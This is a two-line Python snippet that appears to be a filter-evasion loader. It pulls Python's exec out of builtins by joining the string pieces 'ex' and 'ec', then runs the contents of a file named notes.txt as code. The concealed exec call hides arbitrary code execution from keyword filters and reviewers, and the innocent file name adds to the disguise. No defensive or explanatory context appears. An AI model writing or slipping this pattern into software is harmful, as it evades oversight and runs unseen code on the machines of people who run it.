import builtins
builtins.__dict__.get("ex" + "ec")(open("notes.txt").read())
